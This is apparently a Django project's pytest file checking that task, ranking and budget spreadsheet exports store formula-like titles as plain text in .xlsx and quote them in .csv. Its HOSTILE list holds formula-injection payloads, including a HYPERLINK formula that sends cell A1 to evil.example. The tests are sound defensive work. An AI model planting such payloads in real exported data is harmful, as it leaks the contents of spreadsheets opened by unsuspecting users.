"""Exports cannot carry formulas: a title typed as ``=HYPERLINK(…)`` (or beginning with ``+``,
``-``, ``@``, a tab or a carriage return) comes out of every .xlsx as a string cell, never a
formula, and out of every .csv behind a single quote. The files are opened as a user's
spreadsheet program would read them."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from portfolio.spreadsheets import csv_row, xlsx_row
from tasks.lifecycle import Status
from tasks.scan import run_scan
from tests.evaluation import factories as outcome
from tests.factories import PASSWORD
from tests.tasks import factories as task_factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _reopen(workbook: Workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


@pytest.mark.parametrize("write_only", [False, True])
def test_the_helper_writes_formula_like_text_as_string_cells(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("x") if write_only else workbook.active
    sheet.append(xlsx_row(sheet, [*HOSTILE, "普通标题", -5, "-120.50"]))
    cells = next(_reopen(workbook).worksheets[0].iter_rows())
    for cell, typed in zip(cells, HOSTILE, strict=False):
        assert (cell.data_type, cell.value.replace("\n", "\r")) == ("s", typed)  # XML may turn CR into LF
    assert [(c.data_type, c.value) for c in cells[len(HOSTILE) :]] == [("s", "普通标题"), ("n", -5), ("s", "-120.50")]


def test_the_helper_quotes_formula_like_csv_values():
    assert csv_row([*HOSTILE, "普通", -5, "-120.50", None]) == [
        *("'" + value for value in HOSTILE),
        "普通",
        -5,
        "-120.50",
        None,
    ]


@pytest.mark.django_db
def test_task_board_and_ranking_exports_hold_hostile_text_as_text(client, supervisor, transport_bureau, city):
    from tests import factories

    plan = factories.plan(city)
    transport_bureau.name = "=1+2"  # an organization name reaches the board and the ranking
    transport_bureau.save()
    for title in HOSTILE:
        task_factories.task(
            transport_bureau, plan=plan, title=title, due_in=-3, assigned_days_ago=30, status=Status.IN_PROGRESS
        )
    run_scan()
    assert client.login(username=supervisor.username, password=PASSWORD)
    found = []
    for path in ("/tasks/export.xlsx", "/tasks/board/export.xlsx", "/tasks/ranking/export.xlsx"):
        response = client.get(path)
        assert response.status_code == 200, path
        sheet = load_workbook(io.BytesIO(response.content)).active
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
                    found.append((path, cell.value))
    # A carriage return inside a cell may come back as a line feed (XML normalizes line ends).
    titles = {value.replace("\r", "\n") for path, value in found if path == "/tasks/export.xlsx"}
    assert {value.replace("\r", "\n") for value in HOSTILE} <= titles
    assert {path for path, value in found if value == "=1+2"} == {
        "/tasks/export.xlsx",
        "/tasks/board/export.xlsx",
        "/tasks/ranking/export.xlsx",
    }


@pytest.mark.django_db
def test_the_budget_report_exports_hold_hostile_text_as_text(api, finance, owner, transport_bureau, city):
    from evaluation.services import evaluate_period
    from tests import factories

    plan = factories.plan(city)
    projects = [outcome.project(transport_bureau, plan=plan, name=name) for name in HOSTILE]
    for project in projects:
        outcome.ratings(project, [5, 4])
    evaluate_period(2025)
    for project in projects:
        outcome.budget_request(project, "1000.00", by=owner)
    workbook = load_workbook(io.BytesIO(api.as_(finance).get("/api/v1/budget/2026/?format=xlsx").content))
    names = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.replace("\n", "\r") in HOSTILE:
                    names.append(cell.value.replace("\n", "\r"))
    assert sorted(names) == sorted(HOSTILE)

    text = api.as_(finance).get("/api/v1/budget/2026/?format=csv").content.decode("utf-8-sig")
    cells = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert sorted(v for v in cells if v[1:] in HOSTILE and v.startswith("'")) == sorted("'" + v for v in HOSTILE)
    assert not [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [v for v in cells if v.startswith("-") and not v.lstrip("-").replace(".", "").isdigit()]
